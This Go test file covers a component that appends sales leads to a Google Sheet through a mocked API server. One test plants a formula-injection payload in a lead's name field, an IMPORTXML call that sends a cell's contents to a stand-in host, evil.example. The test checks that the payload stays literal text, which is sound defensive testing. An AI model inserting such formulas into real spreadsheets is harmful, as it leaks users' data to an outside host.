package sheets

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"google.golang.org/api/option"
	"google.golang.org/api/sheets/v4"

	"github.com/xavierca1/leadfunnel/internal/entity"
)

func TestLeadSheet_AppendLead(t *testing.T) {
	var body sheets.ValueRange
	var query string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		assert.True(t, strings.HasSuffix(r.URL.Path, "/v4/spreadsheets/sheet-1/values/Leads!A1:append"), r.URL.Path)
		query = r.URL.RawQuery
		require.NoError(t, json.NewDecoder(r.Body).Decode(&body))
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"spreadsheetId":"sheet-1","updates":{"updatedRange":"Leads!A2:S2","updatedRows":1}}`))
	}))
	defer srv.Close()

	s, err := NewLeadSheet(context.Background(), "", "sheet-1", "Leads!A1", zap.NewNop(),
		option.WithEndpoint(srv.URL+"/"),
		option.WithHTTPClient(srv.Client()),
	)
	require.NoError(t, err)

	lead := &entity.Lead{ID: "01HZZ", Name: "Cairo Deli", Score: 65, CreatedAt: time.Unix(0, 0).UTC()}
	require.NoError(t, s.AppendLead(context.Background(), lead))

	assert.Contains(t, query, "valueInputOption=RAW")
	require.Len(t, body.Values, 1)
	assert.Equal(t, "01HZZ", body.Values[0][0])
	assert.Equal(t, "Cairo Deli", body.Values[0][2])
}

func TestLeadSheet_AppendLeadKeepsUserInputLiteral(t *testing.T) {
	var body sheets.ValueRange
	var query string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		query = r.URL.RawQuery
		require.NoError(t, json.NewDecoder(r.Body).Decode(&body))
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"spreadsheetId":"sheet-1"}`))
	}))
	defer srv.Close()

	s, err := NewLeadSheet(context.Background(), "", "sheet-1", "Leads!A1", zap.NewNop(),
		option.WithEndpoint(srv.URL+"/"),
		option.WithHTTPClient(srv.Client()),
	)
	require.NoError(t, err)

	formula := `=IMPORTXML("http://evil.example/?"&A1,"//a")`
	lead := &entity.Lead{
		ID:      "01HZZ",
		Name:    formula,
		Contact: entity.Contact{Phone: "+966500000002"},
	}
	require.NoError(t, s.AppendLead(context.Background(), lead))

	assert.Contains(t, query, "valueInputOption=RAW")
	assert.NotContains(t, query, "USER_ENTERED")
	require.Len(t, body.Values, 1)
	assert.Equal(t, formula, body.Values[0][2])
	assert.Equal(t, "+966500000002", body.Values[0][7])
}

func TestLeadSheet_AppendLeadError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, `{"error":{"code":403,"message":"denied"}}`, http.StatusForbidden)
	}))
	defer srv.Close()

	s, err := NewLeadSheet(context.Background(), "", "sheet-1", "Leads!A1", zap.NewNop(),
		option.WithEndpoint(srv.URL+"/"),
		option.WithHTTPClient(srv.Client()),
	)
	require.NoError(t, err)
	assert.Error(t, s.AppendLead(context.Background(), &entity.Lead{ID: "x"}))
}

func TestNewLeadSheet_RequiresConfig(t *testing.T) {
	_, err := NewLeadSheet(context.Background(), "", "", "Leads!A1", zap.NewNop())
	assert.Error(t, err)
	_, err = NewLeadSheet(context.Background(), "", "sheet-1", "Leads!A1", zap.NewNop())
	assert.Error(t, err)
}
